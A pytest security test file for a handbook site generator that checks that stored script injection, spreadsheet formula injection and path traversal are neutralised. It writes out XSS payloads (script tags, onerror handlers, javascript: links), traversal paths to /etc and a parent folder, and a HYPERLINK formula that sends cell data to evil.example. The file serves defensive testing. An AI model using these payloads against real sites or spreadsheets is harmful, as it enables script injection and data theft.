"""Stored script injection (issue 14): every YAML text reaches every output as text, never as markup.

A copy of the mini office gets a script payload in every text field (office, group, work units,
procedure, officer); the site is built and every page is opened in headless Chromium, then the
search results for the payloads are shown: no script may run.  The ITA CSV is checked for formula
injection.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
import yaml

MARK = "zqxj"
"""A word in every payload, to find them with the site search."""

# fields that are not text (ids, references, choices, numbers, dates, URLs, e-mail)
NOT_TEXT = {"id", "work_unit", "owners", "procedures", "goto", "kind", "email", "website", "handbook_url",
            "numerals", "languages", "effective", "fiscal_year", "emblem", "redirects", "formats", "parts",
            "author", "officer"}


def payloads(counter: list[int]) -> str:
    counter[0] += 1
    n = counter[0]
    return (f" {MARK}<img src=x onerror=__xss.push({n})><script>__xss.push({n})</script>"
            f"</title><script>__xss.push({n})</script>\n\n[x](javascript:__xss.push({n}))\n\n"
            f"<img src=x onerror=__xss.push({n})>*{MARK}*")


def inject(value, counter: list[int], key: str | None = None):
    """Append a payload to every text of ``value`` (a loaded YAML document); leave non-text fields alone."""
    if key in NOT_TEXT:
        return value
    if key in ("version", "position_number"):  # at most 40 characters
        return "<img src=x onerror=__xss.push(9)>"
    if isinstance(value, dict):
        return {k: inject(v, counter, k) for k, v in value.items()}
    if isinstance(value, list):
        return [inject(v, counter, key) for v in value]
    if isinstance(value, str):
        return value[:40] + payloads(counter)
    return value


@pytest.fixture(scope="module")
def injected_site(tmp_path_factory) -> Path:
    import shutil

    from conftest import MINI, ROOT

    from generator.build import build

    base = tmp_path_factory.mktemp("xss")
    project = base / "project"
    shutil.copytree(MINI, project)
    shutil.copyfile(ROOT / "mkdocs.yml", project / "mkdocs.yml")
    counter = [0]
    files = [project / "office.yml", *sorted((project / "procedures").glob("*.yml")),
             *sorted((project / "officers").glob("*.yml"))]
    for path in files:
        data = yaml.safe_load(path.read_text(encoding="utf-8"))
        path.write_text(yaml.safe_dump(inject(data, counter), allow_unicode=True, sort_keys=False), encoding="utf-8")
    data = yaml.safe_load((project / "office.yml").read_text(encoding="utf-8"))
    data["phone"] = '0 4599 0001 <img src=x onerror="window.__xss.push(0)">'
    (project / "office.yml").write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    assert counter[0] > 40
    (project / "manuals").mkdir()
    (project / "manuals" / "sudarat-m.yml").write_text(yaml.safe_dump(inject({
        "id": "sudarat-m", "kind": "personal", "author": "sudarat-m", "title": "คู่มือ",
        "memo": {"subject": "ขออนุญาตเผยแพร่", "body": ["เรียน ผู้อำนวยการ"]},
        "preface": ["คำนำ"], "appendix": [{"title": "ภาคผนวก", "text": ["ข้อความ"]}]}, counter),
        allow_unicode=True, sort_keys=False), encoding="utf-8")
    return build(project, site_dir=base / "site", docs_dir=base / "docs", manuals=False)


def test_payload_reaches_manuals_as_text(injected_site):
    """The printed manual's HTML (PDF) and the DOCX carry the payloads as text, never as elements."""
    import zipfile

    from bs4 import BeautifulSoup

    from generator.manuals.docx import write_manual_docx
    from generator.manuals.pdf import render_html
    from generator.model.loader import require_handbook

    project = injected_site.parent / "project"
    handbook = require_handbook(project)
    manual = handbook.manuals["sudarat-m"]
    soup = BeautifulSoup(render_html(handbook, manual, "th", cache_dir=project / ".cache"), "html.parser")
    assert "onerror" in soup.get_text()
    assert not [img for img in soup.find_all("img") if img.get("onerror") or img.get("src") == "x"]
    assert not [s for s in soup.find_all("script")]
    docx = write_manual_docx(handbook, manual, "th", injected_site.parent / "m.docx", cache_dir=project / ".cache")
    xml = zipfile.ZipFile(docx).read("word/document.xml").decode()
    assert "&lt;script&gt;__xss" in xml and "<script" not in xml


def test_payload_reaches_pages_as_text(injected_site):
    """The payload is on the pages as visible text (so the test is not vacuous) and never as an element."""
    from bs4 import BeautifulSoup

    page = injected_site / "procedures" / "records-management.html"
    soup = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
    assert "onerror" in soup.get_text() and MARK in soup.title.get_text()
    assert not [img for img in soup.find_all("img") if img.get("onerror")]
    assert not [s for s in soup.find_all("script") if "__xss" in s.get_text()]
    assert not [a for a in soup.find_all("a") if "javascript:" in (a.get("href") or "")]
    assert not [e for e in soup.find_all(["em", "p"]) if e.get_text() == MARK]  # no Markdown from YAML text
    description = soup.find("meta", attrs={"name": "description"})
    assert "onerror" in description["content"]


@pytest.mark.browser
def test_no_script_runs_on_any_page_or_in_search(injected_site):
    from browser import Browser, serve

    pages = sorted(p.relative_to(injected_site).as_posix() for p in injected_site.rglob("*.html")
                   if "assets" not in p.parts and p.name != "404.html")
    assert len(pages) >= 10
    with serve(injected_site) as base, Browser() as browser:
        browser.context.add_init_script("window.__xss = []; window.alert = (x) => window.__xss.push('alert:' + x);")
        ran = {}
        for rel in pages:
            browser.page.goto(base + rel)
            browser.page.wait_for_load_state("load")
            fired = browser.page.evaluate("window.__xss")
            if fired:
                ran[rel] = fired
        assert ran == {}
        # the search results show titles and texts of every page
        browser.open_search(base)
        results = browser.search(MARK)
        assert results, "the payloads should be found by the search"
        shown = browser.page.inner_text(".md-search-result")
        assert "onerror" in shown or MARK in shown
        assert browser.page.evaluate("window.__xss") == []
        assert browser.outside == []


def test_ita_csv_cells_are_not_formulas(tmp_path):
    """A criteria title starting with =, +, -, @ (or tab/CR) reaches the CSV as text, not as a formula."""
    from conftest import EXAMPLE

    from generator.ita.files import write_ita_files
    from generator.ita.report import ita_report
    from generator.model.criteria import load_criteria
    from generator.model.loader import require_handbook

    handbook = require_handbook(EXAMPLE)
    criteria = load_criteria(EXAMPLE)
    year = criteria.years[-1]
    item = year.items[0].model_copy(update={"title": year.items[0].title.model_copy(
        update={"th": '=HYPERLINK("http://evil.example/?"&A1,"คลิก")'})})
    year = year.model_copy(update={"items": [item, *year.items[1:]]})
    criteria = criteria.model_copy(update={"years": [*criteria.years[:-1], year]})
    report = ita_report(handbook, criteria, year.year)
    csv_path, json_path = write_ita_files(report, tmp_path)
    rows = list(csv.reader(io.StringIO(csv_path.read_text(encoding="utf-8-sig"))))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert any(cell == "'" + item.title.th for row in rows for cell in row)
    # the JSON keeps the text as written
    assert json.loads(json_path.read_text(encoding="utf-8"))["items"][0]["title"] == item.title.th


def test_serve_binds_localhost_and_stays_in_site(tmp_path):
    """``handbook serve`` listens on 127.0.0.1 only and never answers with a file outside site/."""
    import os
    import socket
    import subprocess
    import sys
    import time
    import urllib.error
    import urllib.request

    site = tmp_path / "site"
    site.mkdir()
    (site / "index.html").write_text("<p>site</p>")
    (tmp_path / "secret.txt").write_text("secret")
    os.symlink(tmp_path / "secret.txt", site / "link.txt")
    os.symlink("/etc", site / "etc")
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    server = subprocess.Popen([sys.executable, "-m", "generator", "serve", "--site-dir", str(site), "--port", str(port)],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                              cwd=Path(__file__).resolve().parents[1])
    try:
        def get(path: str) -> tuple[int, str]:
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{port}{path}", timeout=5) as response:
                    return response.status, response.read().decode()
            except urllib.error.HTTPError as error:
                return error.code, ""

        for _ in range(100):
            try:
                status, body = get("/index.html")
                break
            except urllib.error.URLError:
                time.sleep(0.1)
        assert (status, body) == (200, "<p>site</p>")
        assert get("/link.txt")[0] == 404
        assert get("/etc/hostname")[0] == 404
        assert get("/../secret.txt")[0] == 404
        assert get("/%2e%2e/secret.txt")[0] == 404
        import shutil

        connections = subprocess.run(["ss", "-ltnH", f"sport = :{port}"], capture_output=True,
                                     text=True).stdout if shutil.which("ss") else ""
        for line in connections.splitlines():  # State Recv-Q Send-Q Local-Address:Port Peer-Address:Port
            assert line.split()[3] == f"127.0.0.1:{port}", line
    finally:
        server.terminate()
        server.wait(timeout=10)
